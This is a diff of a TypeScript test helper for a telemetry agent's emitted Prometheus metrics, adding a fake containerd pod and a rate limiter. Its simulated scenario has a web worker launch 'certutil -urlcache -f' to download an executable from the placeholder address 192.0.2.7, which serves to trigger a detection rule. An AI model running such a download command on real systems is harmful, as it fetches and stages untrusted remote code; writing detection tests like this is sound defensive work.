@@ -13,26 +13,38 @@ import { Source } from '../../src/config/source.ts';
 import type { SessionFacts } from '../../src/windows/sessions/control.ts';
 import { scenario } from '../scenario/scenario.ts';
 import { TestIo } from './cli_io.ts';
-import { fakePlatform } from './live_receiver.ts';
+import { FakeContainerd, kubernetesLabels } from './fake_containerd.ts';
+import { type FakeSession, fakePlatform } from './live_receiver.ts';
 import { metricFamilies } from './prometheus_text.ts';
 
-/** Metrics that must be there before a run has shown all that it has: the last to come. */
+/** Metrics that must be there before a run has shown all that it has: those that come with what befalls it. */
 const LAST = [
   'sigel_receiver_events_lost_total',
+  'sigel_processor_records_dropped_total',
   'sigel_exporter_records_dropped_total',
+  'sigel_attribution_attributed_total',
+  'sigel_pod_blind_time_total',
+  'sigel_pod_records_limited_total',
   'sigel_signature_matches_total',
 ];
+/** The pid of the pod's first process. */
+const WEB = 4242;
 const MAX_TURNS = 6000;
 
 /**
- * The metrics that a node's run shows Prometheus, with their labels: everything of config/node.yaml and more, over a session that
- * is a trace and loses events, to a peer that is not there. Takes a few seconds.
+ * The metrics that a node's run shows Prometheus, with their labels: everything of config/node.yaml and more, over sessions that are
+ * traces and lose events, with a pod, to a peer that is not there. Takes a few seconds.
  */
 export async function emittedMetrics(): Promise<ReadonlyMap<string, ReadonlySet<string>>> {
   const folder = mkdtempSync(join(tmpdir(), 'sigel-emitted-'));
+  const containerd = new FakeContainerd(join(folder, 'containerd.sock'));
   try {
+    await containerd.start();
+    containerd.create('k8s.io', { id: 'web', labels: kubernetesLabels('web-1', 'web') });
+    containerd.startTask('k8s.io', 'web', WEB);
     return await run(folder);
   } finally {
+    containerd.kill();
     rmSync(folder, { recursive: true, force: true });
   }
 }
@@ -75,20 +87,25 @@ function withEtw(folder: string, facts: Partial<SessionFacts>): readonly AnyDefi
     signals: ['logs'],
     config: etwConfig,
     create: (context, config, next) =>
-      new EtwReceiver(context, config, next.logs, () =>
-        Promise.resolve(fakePlatform(folder, [{ name: 'sigel-events', trace: story(), facts }])),
-      ),
+      new EtwReceiver(context, config, next.logs, () => Promise.resolve(fakePlatform(folder, story(facts)))),
   });
   return [...components.filter(({ type, kind }) => type !== 'etw' || kind !== 'receiver'), etw];
 }
 
-/** One process starts another, which a built-in rule has an eye on. */
-function story(): Uint8Array {
-  const s = scenario({ kernel: 'none', session: { bufferSize: 16_384 } });
-  s.process({ commandLine: 'w3wp.exe -ap "Shop"' })
-    .starts('cmd.exe /c certutil -urlcache -f http://192.0.2.7/x.exe x.exe')
-    .exits(0);
-  return s.trace();
+/** The first process of the pod starts another, which a rule has an eye on. */
+function story(facts: Partial<SessionFacts>): readonly FakeSession[] {
+  const s = scenario({
+    start: new Date().toISOString(),
+    kernel: 'separate',
+    session: { bufferSize: 16_384 },
+  });
+  const pod = s.container({ session: 3, silo: '9c3f5a1e-6b7d-4c80-8f42-1d2e3b4a5c6d' });
+  const web = s.process({ commandLine: 'w3wp.exe -ap "Shop"', in: pod, pid: WEB });
+  for (let i = 0; i < 3; i++) web.starts('certutil.exe -urlcache -f http://192.0.2.7/x.exe').exits(0);
+  return [
+    { name: 'sigel-events', trace: s.trace(), facts },
+    { name: 'sigel-lifecycle', trace: s.kernelTrace(), shedLast: true, facts },
+  ];
 }
 
 function configuration(folder: string): string {
@@ -96,7 +113,7 @@ function configuration(folder: string): string {
   writeFileSync(`${rules}.yml`, RULE);
   return `
 extensions:
-  containerd: { endpoint: "unix:${join(folder, 'none.sock')}" }
+  containerd: { endpoint: "unix:${join(folder, 'containerd.sock')}" }
   file_storage: { directory: "${join(folder, 'queue')}", create_directory: true }
 receivers:
   etw: { preset: security, poll_interval: 100ms }
@@ -105,6 +122,7 @@ processors:
   process:
   container_attribution:
   signature: { rules: ["${rules}.yml"] }
+  rate_limit: { limits: [{ records_per_second: 1, burst: 1s }] }
   batch: { timeout: 10ms }
 exporters:
   otlp_grpc:
@@ -122,7 +140,7 @@ service:
   pipelines:
     logs:
       receivers: [etw]
-      processors: [memory_limiter, process, container_attribution, signature, batch]
+      processors: [memory_limiter, process, container_attribution, signature, rate_limit, batch]
       exporters: [otlp_grpc]
 `;
 }
